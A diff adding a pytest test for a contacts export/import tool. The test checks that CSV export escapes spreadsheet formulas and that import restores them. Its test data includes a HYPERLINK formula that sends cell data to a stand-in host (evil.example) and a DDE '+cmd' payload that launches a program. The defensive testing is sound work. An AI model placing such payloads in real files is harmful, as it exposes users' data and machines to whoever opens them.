@@ -11,7 +11,7 @@ import pytest
 
 from tests.conftest import new_account
 from tests.servers import Server
-from tests.transfer.live import Workspace, comparable_contacts, summary
+from tests.transfer.live import Workspace, comparable_contacts, read_csv, summary
 
 pytestmark = pytest.mark.slow
 
@@ -97,3 +97,38 @@ def test_names_differing_by_edge_blanks_are_two_items(
     run = third.cli("import", "contacts", str(order), "--create-tags")
     assert summary(run) == "created 2, updated 0, unchanged 0, failed 0", run.output
     assert sorted(t["name"] for t in third.setup()["tags"]) == [" sp ", "sp"]
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back(
+    server: Server, database_url: str, tmp_path: Path
+) -> None:
+    """A contact's name comes from anyone (a WhatsApp profile): `=HYPERLINK(…)` or
+    `+cmd|…` was written as it is, and a spreadsheet opening the export ran it. Export
+    puts a `'` before a formula's start (numbers and phones are left alone), import takes
+    it off: the records come back as they were."""
+    account = new_account(database_url)
+    first = Workspace(server, account.api_key, account.workspace_id)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    body = {
+        "name": formula,
+        "lastname": "+cmd|' /C calc'!A0",
+        "email": "csv@example.com",
+        "platformId": 2,
+        "phone": "+51 987 654 321",
+        "variables": [{"name": "n", "value": -3}, {"name": "t", "value": "'=kept"}],
+    }
+    first.call("POST", "/api/contact", json=body)
+    exported = tmp_path / "contacts.csv"
+    assert first.cli("export", "contacts", "-o", str(exported)).exit_code == 0
+    [row] = read_csv(exported)
+    assert row["name"] == "'" + formula
+    assert row["lastname"] == "'+cmd|' /C calc'!A0"
+    assert (row["phone"], row["var:n"]) == ("+51987654321", "-3")
+    assert row["var:t"] == "''=kept"
+    again = first.cli("import", "contacts", str(exported))
+    assert summary(again) == "created 0, updated 0, unchanged 1, failed 0", again.output
+    made = first.call("POST", "/api/workspace", json={"name": "Copy"})
+    second = Workspace(server, account.api_key, made["id"])
+    copied = second.cli("import", "contacts", str(exported))
+    assert summary(copied) == "created 1, updated 0, unchanged 0, failed 0", copied.output
+    assert comparable_contacts(second) == comparable_contacts(first)
